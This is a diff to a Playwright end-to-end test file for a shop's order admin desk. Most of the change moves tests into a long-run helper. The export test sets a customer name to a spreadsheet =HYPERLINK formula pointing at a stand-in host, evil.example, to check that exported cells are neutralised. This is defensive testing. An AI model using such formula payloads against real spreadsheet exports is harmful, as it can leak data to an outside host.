@@ -12,7 +12,7 @@ import { ordersCtx } from "../orders/orders-rig.ts";
 import { openPage, sharedBrowser, windows } from "../support/browser.ts";
 import type { TestDatabase } from "../support/database.ts";
 import { openDesk, tryPassword } from "../support/desk-acts.ts";
-import { longTest } from "../support/long-run.ts";
+import { isLongRun, longTest } from "../support/long-run.ts";
 import { expectToast, signIn, visit } from "../support/shop-acts.ts";
 import { type RunningShop, sharedShop } from "../support/shop-server.ts";
 
@@ -59,50 +59,53 @@ const rowOf = (page: Page, id: string) =>
 const statusOf = async (id: string) =>
   (await shop.query("select status from orders where id = $1", [id]))[0]?.status;
 
-test("filters stand in the address: a reload shows the same, and the form works without scripts", async () => {
-  const mine = `Seeker ${randomUUID().slice(0, 6)}`;
-  const id = await placedOrder({ customerName: mine });
-  await placedOrder({ customerName: "Somebody Else" });
-  const { page, context, expectQuiet } = await openPage(browser);
-  await openDesk(page, shop.origin, "staff@goldhall.test");
-  await page.getByRole("searchbox", { name: "Search orders" }).fill(mine);
-  await page.waitForURL(/q=Seeker/);
-  await page.getByRole("combobox", { name: "Type", exact: true }).selectOption({ label: "Account Sale" });
-  await page.waitForURL(/type=account_sale/);
-  const pending = page
-    .getByRole("navigation", { name: "Filter by status" })
-    .getByRole("link", { name: /Pending/ });
-  await pending.click();
-  await page.waitForURL(/status=pending/);
-  await expect.poll(() => page.locator("tbody tr").count()).toBe(1);
-  await page.reload();
-  await rowOf(page, id).waitFor();
-  expect(await page.locator("tbody tr").count()).toBe(1);
-  expect(await page.getByRole("searchbox").inputValue()).toBe(mine);
-  expect(await pending.getAttribute("aria-current")).toBe("true");
+longTest(
+  "filters stand in the address: a reload shows the same, and the form works without scripts",
+  async () => {
+    const mine = `Seeker ${randomUUID().slice(0, 6)}`;
+    const id = await placedOrder({ customerName: mine });
+    await placedOrder({ customerName: "Somebody Else" });
+    const { page, context, expectQuiet } = await openPage(browser);
+    await openDesk(page, shop.origin, "staff@goldhall.test");
+    await page.getByRole("searchbox", { name: "Search orders" }).fill(mine);
+    await page.waitForURL(/q=Seeker/);
+    await page.getByRole("combobox", { name: "Type", exact: true }).selectOption({ label: "Account Sale" });
+    await page.waitForURL(/type=account_sale/);
+    const pending = page
+      .getByRole("navigation", { name: "Filter by status" })
+      .getByRole("link", { name: /Pending/ });
+    await pending.click();
+    await page.waitForURL(/status=pending/);
+    await expect.poll(() => page.locator("tbody tr").count()).toBe(1);
+    await page.reload();
+    await rowOf(page, id).waitFor();
+    expect(await page.locator("tbody tr").count()).toBe(1);
+    expect(await page.getByRole("searchbox").inputValue()).toBe(mine);
+    expect(await pending.getAttribute("aria-current")).toBe("true");
 
-  const bare = await browser.newContext({
-    ...windows.desktop,
-    javaScriptEnabled: false,
-    storageState: await context.storageState(),
-  });
-  const quiet = await bare.newPage();
-  await quiet.goto(`${shop.origin}/admin?state=all`);
-  await quiet.getByRole("searchbox", { name: "Search orders" }).fill(mine);
-  await quiet.keyboard.press("Enter");
-  await quiet.waitForURL(/q=Seeker/);
-  expect(await quiet.locator("tbody tr").count()).toBe(1);
-  await rowOf(quiet, id).getByRole("button", { name: /^Take/ }).click();
-  await rowOf(quiet, id).getByText("Teller Finch").waitFor();
-  await rowOf(quiet, id)
-    .getByRole("link", { name: /^Cancel #/ })
-    .click();
-  await quiet.getByLabel("Reason").fill("Asked by mail");
-  await quiet.getByRole("button", { name: "Cancel order" }).click();
-  await rowOf(quiet, id).getByText("Canceled").waitFor();
-  expectQuiet();
-  await Promise.all([bare.close(), context.close()]);
-});
+    const bare = await browser.newContext({
+      ...windows.desktop,
+      javaScriptEnabled: false,
+      storageState: await context.storageState(),
+    });
+    const quiet = await bare.newPage();
+    await quiet.goto(`${shop.origin}/admin?state=all`);
+    await quiet.getByRole("searchbox", { name: "Search orders" }).fill(mine);
+    await quiet.keyboard.press("Enter");
+    await quiet.waitForURL(/q=Seeker/);
+    expect(await quiet.locator("tbody tr").count()).toBe(1);
+    await rowOf(quiet, id).getByRole("button", { name: /^Take/ }).click();
+    await rowOf(quiet, id).getByText("Teller Finch").waitFor();
+    await rowOf(quiet, id)
+      .getByRole("link", { name: /^Cancel #/ })
+      .click();
+    await quiet.getByLabel("Reason").fill("Asked by mail");
+    await quiet.getByRole("button", { name: "Cancel order" }).click();
+    await rowOf(quiet, id).getByText("Canceled").waitFor();
+    expectQuiet();
+    await Promise.all([bare.close(), context.close()]);
+  },
+);
 
 longTest("a filter that is chosen at the moment a search is answered is kept", async () => {
   const mine = `Seeker ${randomUUID().slice(0, 6)}`;
@@ -265,7 +268,7 @@ async function restingBox(locator: Locator) {
 }
 
 test("a new order appears by itself, and never moves the row that has the focus", async () => {
-  for (const window of [windows.desktop, windows.phone]) {
+  for (const window of isLongRun ? [windows.desktop, windows.phone] : [windows.desktop]) {
     const { page, context, expectQuiet } = await openPage(browser, window);
     await page.clock.install();
     await signIn(page, shop.origin, "staff@goldhall.test", "/support");
@@ -298,44 +301,47 @@ test("a new order appears by itself, and never moves the row that has the focus"
   }
 });
 
-test("an order is canceled with a reason that the customer can read; a stale version changes nothing", async () => {
-  const id = await placedOrder();
-  const { page, context, expectQuiet } = await openPage(browser);
-  await openDesk(page, shop.origin, "staff@goldhall.test", "/admin?sort=created");
-  await rowOf(page, id)
-    .getByRole("link", { name: /^Cancel #/ })
-    .click();
-  const dialog = page.getByRole("dialog");
-  expect(await dialog.getByLabel("Reason").inputValue()).toBe("Canceled by admin");
-  await dialog.getByLabel("Reason").fill("Sent twice");
-  await dialog.getByRole("button", { name: "Cancel order" }).click();
-  await expectToast(page, "Order Canceled", "Order has been canceled successfully.");
-  expect(await statusOf(id)).toBe("canceled");
-  const [event] = await shop.query(
-    "select note, visibility from events where subject_id = $1 and type = 'order.status_changed'",
-    [id],
-  );
-  expect(event).toEqual({ note: "Sent twice", visibility: "public" });
-  await rowOf(page, id).getByText("Canceled").waitFor();
-  expect(
+longTest(
+  "an order is canceled with a reason that the customer can read; a stale version changes nothing",
+  async () => {
+    const id = await placedOrder();
+    const { page, context, expectQuiet } = await openPage(browser);
+    await openDesk(page, shop.origin, "staff@goldhall.test", "/admin?sort=created");
     await rowOf(page, id)
       .getByRole("link", { name: /^Cancel #/ })
-      .count(),
-  ).toBe(0);
+      .click();
+    const dialog = page.getByRole("dialog");
+    expect(await dialog.getByLabel("Reason").inputValue()).toBe("Canceled by admin");
+    await dialog.getByLabel("Reason").fill("Sent twice");
+    await dialog.getByRole("button", { name: "Cancel order" }).click();
+    await expectToast(page, "Order Canceled", "Order has been canceled successfully.");
+    expect(await statusOf(id)).toBe("canceled");
+    const [event] = await shop.query(
+      "select note, visibility from events where subject_id = $1 and type = 'order.status_changed'",
+      [id],
+    );
+    expect(event).toEqual({ note: "Sent twice", visibility: "public" });
+    await rowOf(page, id).getByText("Canceled").waitFor();
+    expect(
+      await rowOf(page, id)
+        .getByRole("link", { name: /^Cancel #/ })
+        .count(),
+    ).toBe(0);
 
-  const raced = await placedOrder();
-  const answer = await page.request.post(`${shop.origin}/admin`, {
-    form: { form: "cancel", orderId: raced, version: "7", reason: "too late" },
-    headers: { Origin: shop.origin },
-  });
-  expect(answer.status()).toBe(409);
-  expect(await answer.text()).toContain("Your change wasn't saved.");
-  expect(await statusOf(raced)).toBe("pending");
-  expectQuiet();
-  await context.close();
-});
+    const raced = await placedOrder();
+    const answer = await page.request.post(`${shop.origin}/admin`, {
+      form: { form: "cancel", orderId: raced, version: "7", reason: "too late" },
+      headers: { Origin: shop.origin },
+    });
+    expect(answer.status()).toBe(409);
+    expect(await answer.text()).toContain("Your change wasn't saved.");
+    expect(await statusOf(raced)).toBe("pending");
+    expectQuiet();
+    await context.close();
+  },
+);
 
-test("ticked orders are assigned together, all or none", async () => {
+longTest("ticked orders are assigned together, all or none", async () => {
   const ids = [await placedOrder(), await placedOrder()];
   const { page, context, expectQuiet } = await openPage(browser);
   await openDesk(page, shop.origin, "manager@goldhall.test", "/admin?sort=created");
@@ -360,7 +366,7 @@ test("ticked orders are assigned together, all or none", async () => {
   await context.close();
 });
 
-test("the export is what the filters show, with cells that no spreadsheet runs", async () => {
+longTest("the export is what the filters show, with cells that no spreadsheet runs", async () => {
   const name = `=HYPERLINK("http://evil.example?${randomUUID()}")`;
   const id = await placedOrder({ customerName: name });
   const { page, context, expectQuiet } = await openPage(browser);
@@ -391,7 +397,7 @@ test("the export is what the filters show, with cells that no spreadsheet runs",
   await context.close();
 });
 
-test("the list is worked by single keys, and they rest while one types", async () => {
+longTest("the list is worked by single keys, and they rest while one types", async () => {
   const ids = [await placedOrder(), await placedOrder()].reverse();
   const [newest = "", older = ""] = ids;
   const { page, context, expectQuiet } = await openPage(browser);
@@ -520,7 +526,7 @@ longTest("why an order's status was refused is said of that order alone", async 
   await context.close();
 });
 
-test("an order that is removed leaves open lists, and who had it selected is told", async () => {
+longTest("an order that is removed leaves open lists, and who had it selected is told", async () => {
   const id = await placedOrder();
   const { page, context } = await openPage(browser);
   await openDesk(page, shop.origin, "staff@goldhall.test", "/admin?sort=created");
